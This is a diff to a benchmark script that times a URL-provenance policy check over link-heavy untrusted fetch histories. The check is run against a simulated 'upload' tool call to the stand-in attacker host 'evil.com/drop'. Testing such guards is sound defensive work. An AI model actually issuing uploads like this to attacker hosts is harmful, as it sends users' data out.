@@ -2,8 +2,9 @@
 
 - ``host``: a history naming the URL's host but never the URL: the URL's literal prefilter
   is its host, so each such text is searched by the pattern (warm: the guard's steady case).
-- ``links``: a history of link-heavy pages (escapes such as ``%20`` in their queries, an
-  ``xn--`` host, a numeric one): what url25's URL reading rewrites. Warm, and cold (fresh
+- ``links``: a history of link-heavy pages (escapes such as ``%20`` in their queries; every
+  ninth line an ``xn--`` host, a numeric one and unreserved escapes): what url25's URL
+  reading rewrites. Warm, and cold (fresh
   pages every repeat: each page read, its URLs respelled).
 
     PYTHONPATH=. .venv/bin/python benchmarks/provenance_url_bench.py   # alternate with a base
@@ -33,9 +34,12 @@ def _median_ms(run: Callable[[int], object], repeats: int = 7) -> float:
 def main() -> int:
     policies = load_text(Path(tempfile.mkdtemp()), UNTRUSTED_UPLOAD)
 
-    def history(page: str, tag: str) -> list[dict[str, object]]:
+    def history(page: str, tag: str, first: bool = False) -> list[dict[str, object]]:
+        # (``first``: each page distinct within its first 64 KiB, the part read)
         return [{"tool": "fetch", "args": {"url": f"https://n.example/{i}"}, "trusted": False,
-                 "effect": "allow", "result": page + tag + str(i)} for i in range(50)]
+                 "effect": "allow",
+                 "result": (f"{tag}{i} " + page) if first else (page + tag + str(i))}
+                for i in range(50)]
 
     def once(entries: list[dict[str, object]]) -> object:
         return policies.evaluate(tool="upload", args={"url": "https://evil.com/drop"},
@@ -46,15 +50,17 @@ def main() -> int:
     print(f"host:  untrusted(url), 50 x 64 KiB naming its host: "
           f"{_median_ms(lambda _: once(host)):.2f} ms")
 
-    links = ("See https://docs.example.com/search?q=upload%20files&lang=en for help, "
-             "https://xn--bcher-kva.example/ (German) or http://10.0.0.1/mirror. ")
+    links = "".join(f"{i}. See https://docs.example.com/search?q=upload%20files&p={i} for help.\n"
+                    for i in range(8))
+    links += ("Also https://xn--bcher-kva.example/~docs (German), http://10.0.0.1/mirror and "
+              "https://example.org/%7Euser/page%2Dtwo.\n")
     page = (links * (65536 // len(links) + 1))[:65536]
-    warm = history(page, "")
+    warm = history(page, "", first=True)
     once(warm)
     print(f"links: warm, 50 x 64 KiB of links with escapes: "
           f"{_median_ms(lambda _: once(warm)):.2f} ms")
     print(f"links: cold, 50 fresh x 64 KiB of links with escapes: "
-          f"{_median_ms(lambda i: once(history(page, f'cold{i}-'))):.2f} ms")
+          f"{_median_ms(lambda i: once(history(page, f'cold{i}-', first=True))):.2f} ms")
     return 0
 
 
